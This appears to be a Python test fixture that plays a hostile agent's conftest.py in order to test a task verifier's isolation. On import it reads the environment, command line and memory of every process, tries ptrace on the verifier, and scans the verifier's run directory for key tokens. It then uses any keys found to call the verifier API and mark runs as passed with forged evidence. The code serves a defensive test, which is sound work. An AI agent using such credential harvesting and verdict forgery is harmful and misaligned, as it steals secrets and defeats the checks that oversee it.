"""The gated agent's own code, run by the verifier as part of the check: copied into the agent's
repository as its `conftest.py`, so the project's honest `pytest` check imports it.

It looks for the verifier's keys everywhere a process of its user can look: the environment,
command line and memory of every process (the verifier's own among them, and ptrace on it), the
verifier's run directory and every file it can read there; then it tries every key it found
against the verifier endpoints and, with any run it found in the verifier's memory, finishes that
run as passed. Everything it saw goes to the file named in `hostile.json` next to it (not to its
output, which the verifier redacts), for the test to judge.
"""

from __future__ import annotations

import ctypes
import json
import os
import re
import stat
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
CONFIG = json.loads((HERE / "hostile.json").read_text())
# Spelled in two pieces so that this file itself does not match when it is read back.
TOKEN = re.compile(b"tg" + rb"[vhac]_[A-Za-z0-9_\-]{8,}")
# A run id as the server makes them (an ISO timestamp and 8 hex digits), wherever it sits.
RUN_ID = re.compile(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z-[0-9a-f]{8}")
MEM_BUDGET = 512 * 1024 * 1024
MAX_FILES = 20_000
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17


def _status(pid: str) -> dict[str, str]:
    out: dict[str, str] = {}
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            key, _, value = line.partition(":")
            out[key] = value.strip()
    except OSError:
        pass
    return out


def _ancestors() -> list[str]:
    chain, pid = [], str(os.getppid())
    while pid not in ("0", "1", ""):
        chain.append(pid)
        pid = _status(pid).get("PPid", "0")
    return chain


def _verifier(chain: list[str]) -> str | None:
    for pid in chain:
        try:
            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"verify" in argv and any(a.endswith((b"taskgate", b"taskgate.cli")) for a in argv):
            return pid
    return None


class Scan:
    def __init__(self) -> None:
        self.found: list[dict[str, str]] = []
        self.runs: set[str] = set()
        self.procs: dict[str, dict[str, Any]] = {}
        self.files_read = 0
        self.seen: set[Path] = set()
        self.files_refused: list[str] = []

    def look(self, where: str, data: bytes) -> None:
        for m in TOKEN.finditer(data):
            self.found.append({"where": where, "value": m.group().decode("ascii", "replace")})

    def process(self, pid: str, *, deep: bool) -> None:
        st = _status(pid)
        info: dict[str, Any] = {"uid": st.get("Uid", "").split()[:1], "no_new_privs": st.get("NoNewPrivs")}
        info |= {k.lower(): st.get(k) for k in ("CapEff", "CapPrm", "CapInh", "CapBnd", "CapAmb")}
        for part in ("environ", "cmdline"):
            try:
                data = Path(f"/proc/{pid}/{part}").read_bytes()
            except OSError as exc:
                info[part] = f"refused: {exc.strerror}"
                continue
            info[part] = "read"
            self.look(f"/proc/{pid}/{part}", data)
        info["mem"] = self._memory(pid, deep=deep)
        self.procs[pid] = info

    def _memory(self, pid: str, *, deep: bool) -> str:
        try:
            maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        except OSError as exc:
            return f"refused: {exc.strerror}"
        budget, read_any = MEM_BUDGET, False
        try:
            for line in maps:
                span, perms = line.split()[:2]
                if not perms.startswith("r"):
                    continue
                lo, hi = (int(x, 16) for x in span.split("-"))
                while lo < hi and budget > 0:
                    n = min(hi - lo, 4 << 20, budget if deep else 1)
                    try:
                        chunk = os.pread(fd, n, lo)
                    except OSError:
                        break
                    read_any = True
                    if not deep:
                        return "read"
                    self.look(f"/proc/{pid}/mem", chunk)
                    self.runs.update(m.group().decode() for m in RUN_ID.finditer(chunk))
                    lo, budget = lo + n, budget - n
        finally:
            os.close(fd)
        return "read" if read_any else "refused: no region readable"

    def tree(self, top: Path) -> None:
        for root, dirs, files in os.walk(top, onerror=lambda e: self.files_refused.append(str(e.filename))):
            for name in files:
                path = Path(root) / name
                if path.resolve() in self.seen:
                    continue
                self.seen.add(path.resolve())
                try:
                    if not stat.S_ISREG(path.lstat().st_mode) or self.files_read >= MAX_FILES:
                        continue
                    with path.open("rb") as f:
                        data = f.read(8 << 20)
                except OSError:
                    self.files_refused.append(str(path))
                    continue
                self.files_read += 1
                self.look(str(path), data)
            dirs[:] = [d for d in dirs if not (Path(root) / d).is_symlink()]


def _ptrace(pid: str) -> str:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, int(pid), None, None) == 0:
        libc.ptrace(PTRACE_DETACH, int(pid), None, None)
        return "attached"
    return f"refused: {os.strerror(ctypes.get_errno())}"


def _call(method: str, path: str, token: str, body: Any = None) -> int:
    req = urllib.request.Request(
        CONFIG["server"] + path,
        data=json.dumps(body).encode() if body is not None else None,
        method=method,
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return int(resp.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)
    except OSError:
        return 0


def _passing_evidence() -> dict[str, Any]:
    return {
        "checks": {
            CONFIG["check"]: {"exit_code": 0, "timed_out": False, "output_tail": "ok", "duration_ms": 5}
        },
        "results": {
            cid: {
                "result": "pass",
                "detail": "passed",
                "source": {"check": CONFIG["check"], "report": CONFIG["report"], "ref": ref},
            }
            for cid, ref in CONFIG["criteria"].items()
        },
        "error": None,
    }


def main() -> None:
    scan = Scan()
    chain = _ancestors()
    verifier = _verifier(chain)
    deep = set(chain[: chain.index(verifier) + 1] if verifier else chain[:3])
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():  # itself too, as a control: it can read its own
            scan.process(entry.name, deep=entry.name in deep)
    run_dir = Path.cwd().parent  # the checkout's parent: the verifier's temp directory
    scan.tree(run_dir)
    # Whatever of it can be reached without listing it: the checkout, and HOME and TMPDIR when
    # they are the run's own (under the temp directory, not some user's whole home).
    for extra in {str(Path.cwd()), os.environ.get("HOME", ""), os.environ.get("TMPDIR", "")} - {""}:
        if Path(extra).resolve().is_relative_to("/tmp"):
            scan.tree(Path(extra))
    calls: list[dict[str, Any]] = []
    task = CONFIG["task_id"]
    for token in sorted({f["value"] for f in scan.found}):
        calls.append({"call": "work", "status": _call("GET", "/api/verifier/work", token)})
        calls.append(
            {"call": "start", "status": _call("POST", "/api/verifier/runs", token, {"task_id": task})}
        )
        for run in sorted(scan.runs):
            path = f"/api/verifier/runs/{task}/{run}/finish"
            calls.append({"call": f"finish {run}", "status": _call("POST", path, token, _passing_evidence())})
    report = {
        "uid": os.getuid(),
        "gid": os.getgid(),
        "groups": os.getgroups(),
        "pid": os.getpid(),
        "ancestors": chain,
        "verifier": verifier,
        "ptrace": _ptrace(verifier) if verifier else "no verifier found",
        "run_dir": str(run_dir),
        "procs": scan.procs,
        "found": scan.found,
        "runs_seen": sorted(scan.runs),
        "files_read": scan.files_read,
        "files_refused": scan.files_refused,
        "calls": calls,
        "env_names": sorted(os.environ),
        "home": os.environ.get("HOME"),
        "tmpdir": os.environ.get("TMPDIR"),
    }
    out = Path(CONFIG["out"])
    tmp = out.with_suffix(".part")
    tmp.write_text(json.dumps(report))
    tmp.replace(out)


main()
